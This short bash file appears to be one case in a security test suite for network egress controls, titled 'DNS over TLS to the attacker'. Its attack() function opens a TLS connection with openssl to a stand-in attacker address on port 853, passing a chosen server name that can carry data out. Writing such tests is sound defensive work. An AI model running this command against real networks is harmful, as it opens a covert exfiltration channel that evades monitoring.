# shellcheck shell=bash disable=SC2034,SC2154,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
title='DNS over TLS to the attacker' origin='RESEARCH §2.43'
reason=not_resolved
attack() { client timeout 6 openssl s_client -quiet -connect 198.18.3.66:853 -servername "$1" < /dev/null; }
